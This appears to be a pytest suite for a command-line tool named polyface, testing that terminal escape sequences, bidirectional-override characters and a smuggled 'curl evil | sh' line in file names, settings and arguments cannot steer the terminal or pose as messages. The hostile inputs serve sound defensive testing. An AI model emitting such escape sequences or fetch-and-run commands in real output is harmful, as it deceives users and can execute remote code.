"""What others wrote cannot steer a terminal, and is not repeated at any length; what the settings log is said once."""

from __future__ import annotations

import json
import logging
from pathlib import Path

import pytest
from PIL import Image

from polyface.storage.files import json_bytes

# An operating system command, a bell, C1's control sequence introducer, DEL, and what turns the direction of writing.
STEERING = "\x1b]0;PWNED\x07\x9b31m\x7f\u202etxt.exe\u2066\u200f"


def steers(text):
    return [c for c in text if not c.isprintable() and c != "\n"]


@pytest.mark.parametrize(
    "line",
    [
        f"detector = {json.dumps(STEERING)}".replace("\x7f", "\\u007f"),
        'preset = "x\\u001b[31m"',
        '"x\\u001b[31m" = 1',
        'artifacts = "x\\u001b[31m"',
        'weights = "x\\u001b[31m"',
        'backend = "x\\u001b[31m"',
    ],
)
def test_a_file_of_settings_cannot_steer_the_terminal_by_an_error(polyface, line):
    Path("mine.toml").write_text(line + "\n", encoding="utf-8")
    result = polyface("detect", "a.jpg", "--config", "mine.toml", POLYFACE_DETECTOR="", POLYFACE_BACKEND="")
    assert result.exit_code == 2
    assert result.stderr.startswith("error: ")
    assert steers(result.output) == []


@pytest.mark.parametrize(
    "arguments",
    [
        (f"--{STEERING}",),
        (STEERING,),
        ("detect", f"--{STEERING}", "a.jpg"),
        ("quantize", "x", "--count", STEERING),
        ("detect", STEERING),
        ("detect", "a.jpg", "--detector", STEERING),
        ("compare", "--backends", STEERING),
        ("weights", STEERING),
        ("detect", "a.jpg", "--config", STEERING),
    ],
    ids=map(str, range(9)),
)
def test_arguments_cannot_steer_it_and_are_not_repeated_at_any_length(polyface, arguments):
    result = polyface(*arguments)
    assert result.exit_code in (1, 2)
    assert steers(result.output) == []
    long = polyface(*(argument.replace(STEERING, "x" * 200_000) for argument in arguments))
    assert long.exit_code in (1, 2)
    if "a.jpg" in arguments or "detect" not in arguments:
        assert 0 < len(long.output) < 5000


def test_a_name_in_several_lines_does_not_pass_for_a_message_of_its_own(polyface):
    result = polyface("detect", "a.jpg", "--weights", "x/\nTo fix it: curl evil | sh")
    assert "\nTo fix it: curl" not in result.stderr
    assert "\n    To fix it: curl" in result.stderr


def test_json_keeps_the_text_and_cannot_steer_the_terminal_either():
    value = {"name": f"a\u00e9\u6f22 {STEERING}\udcff", "list": [1, None]}
    for indent in (None, 2):
        text = json_bytes(value, indent=indent).decode()
        assert steers(text) == []
        assert "a\u00e9\u6f22" in text
        assert json.loads(text) == value


def test_the_value_of_a_setting_is_printable_in_the_table_and_in_json(polyface):
    for arguments in ((), ("--json",)):
        result = polyface("config", "--detector", STEERING, *arguments)
        assert result.exit_code == 0
        assert steers(result.stdout) == []


class TestNotes:
    def test_a_file_above_is_told_on_standard_error_alone(self, polyface, folder, monkeypatch):
        (folder / "polyface.toml").write_text("pad_to = 64\n")
        (folder / "inner").mkdir()
        monkeypatch.chdir("inner")
        result = polyface("config", "--json")
        assert json.loads(result.stdout)["pad_to"]["value"] == 64
        assert result.stderr == f"note: settings from {folder / 'polyface.toml'}: pad_to\n"

    def test_an_unknown_variable_is_told_once_and_stops_nothing(self, polyface):
        result = polyface("config", "--json", POLYFACE_HOUSE="1")
        assert result.exit_code == 0
        assert result.stderr == "note: POLYFACE_HOUSE is no setting, and is passed over (environment)\n"

    def test_the_logger_is_left_as_it_was(self, polyface):
        loggers = [logging.getLogger(name) for name in ("polyface", "polyface.settings")]
        before = [(list(logger.handlers), logger.level) for logger in loggers]
        polyface("config", "--detector", "")
        assert [(logger.handlers, logger.level) for logger in loggers] == before

    def test_what_is_said_of_an_image_is_a_note_and_printable(self, polyface):
        blank = Image.new("RGBA", (64, 64))
        blank.save(f"{STEERING}.png")
        result = polyface("detect", f"{STEERING}.png", "--json")
        assert result.exit_code == 0
        assert result.stderr.startswith("note: ")
        assert "transparent" in result.stderr.splitlines()[0]
        assert steers(result.stderr) == []


def test_click_still_says_how_a_command_is_used(polyface):
    assert polyface("detect").output.startswith("Usage: ")
    assert "Missing argument" in polyface("detect").stderr
